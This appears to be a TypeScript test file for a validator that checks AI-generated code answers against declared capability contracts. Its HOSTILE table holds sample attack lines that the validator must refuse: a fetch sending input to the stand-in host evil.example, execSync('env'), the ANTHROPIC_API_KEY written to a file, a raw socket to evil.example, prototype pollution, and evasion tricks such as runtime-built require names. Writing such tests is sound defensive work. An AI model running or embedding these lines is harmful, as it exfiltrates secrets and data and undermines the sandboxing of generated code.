/**
 * Hostile answers: code that reaches outside the process, ends it, changes shared globals or runs at
 * load. Each is refused unless its spec's contract grants the capability (`@jauntAllow`), with the line
 * and the capability named, so the model (or the person who wrote the entry) knows what to do.
 */
import * as path from 'node:path';
import ts = require('typescript');
import { analyzeProgram } from '../core/analyze-program';
import { loadProject } from '../core/load-program';
import { createValidator, type ValidationResult } from '../validate/validate-candidate';

const DIR = path.join(__dirname, '..', 'fixtures', 'hostile');
const { program } = loadProject(ts, path.join(DIR, 'tsconfig.json'));
const analysis = analyzeProgram(ts, program, DIR);
const validator = createValidator(ts, program, analysis, { packageDeps: [] });
const validate = (name: string, code: string): ValidationResult =>
  validator.validate(analysis.specs.find((s) => s.ir.name === name)!, code);
const errors = (r: ValidationResult) => (r.ok ? [] : r.errors);

const slugFn = (body: string) => `export function slug(text: string): string {\n${body}\n  return text.toLowerCase().split(/\\s+/).join('-');\n}\n`;

const HOSTILE: [string, string, RegExp][] = [
  ['a top-level infinite loop above the function', `while (true) {}\n${slugFn('')}`, /line 1: only declarations may stand at the top level/],
  ['a top-level call that runs at load', `${slugFn('')}slug('warm up');\n`, /line 5: only declarations may stand at the top level/],
  ['execSync("env") from child_process', `import { execSync } from 'node:child_process';\n${slugFn("  execSync('env');")}`, /line 1: importing 'node:child_process' needs the 'subprocess' capability/],
  ['fetch to an outside host', slugFn("  void fetch('https://evil.example/collect?k=' + text);"), /line 2: `fetch` needs the 'network' capability/],
  ['globalThis.fetch', slugFn("  void globalThis.fetch('https://evil.example');"), /`globalThis.fetch` needs the 'network' capability/],
  ['process.exit(0)', slugFn('  if (text === "") process.exit(0);'), /line 2: `process.exit` needs the 'exit' capability/],
  ["process['exit'] through a literal index", slugFn("  if (!text) process['exit'](1);"), /`process.exit` needs the 'exit' capability/],
  ['process aliased to a local', slugFn('  const p = process;\n  if (!text) p.exit();'), /`process` used other than as `process.<member>` needs the 'eval' capability/],
  ['Object.prototype pollution', slugFn('  (Object.prototype as Record<string, unknown>).polluted = true;'), /changing a built-in prototype needs the 'globals' capability/],
  ['Array.prototype extended', `${slugFn('')}(Array.prototype as unknown as Record<string, unknown>).last = 1;\n`, /changing a built-in prototype needs the 'globals' capability/],
  ['Object.defineProperty on Object.prototype', slugFn("  Object.defineProperty(Object.prototype, 'x', { value: 1 });"), /`Object.defineProperty` on a shared global needs the 'globals' capability/],
  ['__proto__ written', slugFn('  const o: Record<string, unknown> = {};\n  (o as { __proto__: unknown }).__proto__ = null;'), /`__proto__` needs the 'globals' capability/],
  ['the API key written to a file', `import { writeFileSync } from 'node:fs';\n${slugFn("  writeFileSync('/tmp/k', process.env.ANTHROPIC_API_KEY ?? '');")}`, /importing 'node:fs' needs the 'fs' capability[\s\S]*`process.env` needs the 'env' capability/],
  ['require of a name built at run time', slugFn("  const m: unknown = require(['child', 'process'].join('_'));\n  void m;"), /a `require` or `import\(\)` of a module named at run time needs the 'eval' capability/],
  ['import() of a name built at run time', slugFn("  void import('node:' + 'fs');"), /needs the 'eval' capability/],
  ['eval', slugFn("  eval('1');"), /`eval` needs the 'eval' capability/],
  ['new Function', slugFn("  const f = new Function('return 1');\n  void f;"), /`Function` needs the 'eval' capability/],
  ['a global read through a computed name', slugFn("  const g = globalThis[('fe' + 'tch') as 'fetch'];\n  void g;"), /`globalThis` used other than to read a named global needs the 'eval' capability/],
  ['node:net imported', `import * as net from 'node:net';\n${slugFn('  void net.createConnection(80, "evil.example");')}`, /importing 'node:net' needs the 'network' capability/],
  ['node:vm imported', `import * as vm from 'node:vm';\n${slugFn("  vm.runInThisContext('1');")}`, /importing 'node:vm' needs the 'eval' capability/],
];

describe('answers that do what their contract did not grant are refused', () => {
  test.each(HOSTILE)('%s', (_label, code, message) => {
    const found = errors(validate('slug', code));
    expect(found.join('\n')).toMatch(message);
  });

  test('a plain answer to the same spec passes', () => {
    expect(validate('slug', slugFn(''))).toEqual({ ok: true, body: slugFn('') });
  });
});

describe('what a contract grants, the answer may do', () => {
  test('@jauntAllow fs lets an answer read a file', () => {
    const code = "import { readFileSync } from 'node:fs';\n\nexport function readText(file: string): string {\n  return readFileSync(file, 'utf8');\n}\n";
    expect(validate('readText', code)).toEqual({ ok: true, body: code });
  });

  test('@jauntAllow network lets an answer fetch, and nothing else it did not grant', () => {
    const code = 'export async function fetchJson(url: string): Promise<unknown> {\n  const res = await fetch(url);\n  return res.json();\n}\n';
    expect(validate('fetchJson', code)).toEqual({ ok: true, body: code });
    const worse = 'export async function fetchJson(url: string): Promise<unknown> {\n  const res = await fetch(url);\n  if (!res.ok) process.exit(1);\n  return res.json();\n}\n';
    expect(errors(validate('fetchJson', worse)).join('\n')).toMatch(/`process.exit` needs the 'exit' capability/);
  });

  test('@jauntAllow env lets an answer read process.env', () => {
    const code = "export function port(): number {\n  const raw = process.env.PORT;\n  return raw === undefined ? 3000 : Number(raw);\n}\n";
    expect(validate('port', code)).toEqual({ ok: true, body: code });
  });

  test('an unknown capability name is an error that lists the known ones', () => {
    const code = 'export function twice(text: string): string {\n  return text + text;\n}\n';
    expect(errors(validate('twice', code)).join('\n')).toMatch(/@jauntAllow names 'netwrk', which is no capability; use one of fs, network, subprocess, exit, env, eval, globals/);
  });

  test('a local named like a global is not the global', () => {
    const code = 'export function slug(process: string): string {\n  const fetch = process.trim();\n  return fetch.toLowerCase().split(/\\s+/).join("-");\n}\n';
    expect(validate('slug', code)).toEqual({ ok: true, body: code });
  });
});
